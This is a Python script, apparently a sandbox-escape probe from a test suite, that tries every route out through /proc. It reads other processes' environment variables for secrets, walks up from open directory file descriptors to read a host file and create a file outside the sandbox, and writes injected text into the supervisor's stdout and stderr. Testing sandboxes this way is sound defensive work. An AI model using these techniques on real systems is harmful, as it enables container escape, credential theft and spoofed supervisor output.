"""argv: SECRET_PATH WRITE_DIR NAME INJECT. Try every way out through /proc that a process of
the run can name: the fds, root and cwd links of every other process in the sandbox (init is
a copy of the supervisor: whatever it holds open could lead outside), their environment, and
their stdout/stderr. Prints one JSON object: what worked.

  read     the host file SECRET_PATH, reached by walking up from a directory fd
  write    a file NAME created in the host directory WRITE_DIR the same way
  environ  the other processes' environments (the test looks for the caller's secrets)
  inject   INJECT written to another process's fd 1 and 2 (the supervisor's own output)
"""
import json
import os
import sys

secret, write_dir, name, inject = sys.argv[1:5]
up = "../" * 40
me = os.getpid()
out = {"read": [], "write": [], "environ": {}, "inject": [], "links": {}}

for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    if pid == me:
        continue
    try:
        with open("/proc/%d/environ" % pid, "rb") as f:
            out["environ"][pid] = f.read().decode("utf-8", "replace")
    except OSError as e:
        out["environ"][pid] = "error: " + e.strerror
    entries = ["root", "cwd"]
    try:
        entries += ["fd/" + fd for fd in os.listdir("/proc/%d/fd" % pid)]
    except OSError as e:
        out["links"][pid] = "error: " + e.strerror
    for ent in entries:
        link = "/proc/%d/%s" % (pid, ent)
        try:
            out["links"].setdefault(str(pid) + "/" + ent, os.readlink(link))
        except OSError:
            pass
        if os.path.isdir(link) and ent.startswith("fd/"):
            try:
                with open(link + "/" + up + secret.lstrip("/"), "rb") as f:
                    out["read"].append([link, f.read(200).decode("utf-8", "replace")])
            except OSError:
                pass
            try:
                target = link + "/" + up + write_dir.lstrip("/") + "/" + name
                fd = os.open(target, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
                os.write(fd, b"escaped\n")
                os.close(fd)
                out["write"].append(link)
            except OSError:
                pass
        if ent in ("fd/1", "fd/2"):
            try:
                fd = os.open(link, os.O_WRONLY | os.O_APPEND)
                os.write(fd, ("\n" + inject + "\n").encode())
                os.close(fd)
                out["inject"].append(link)
            except OSError:
                pass

print(json.dumps(out))
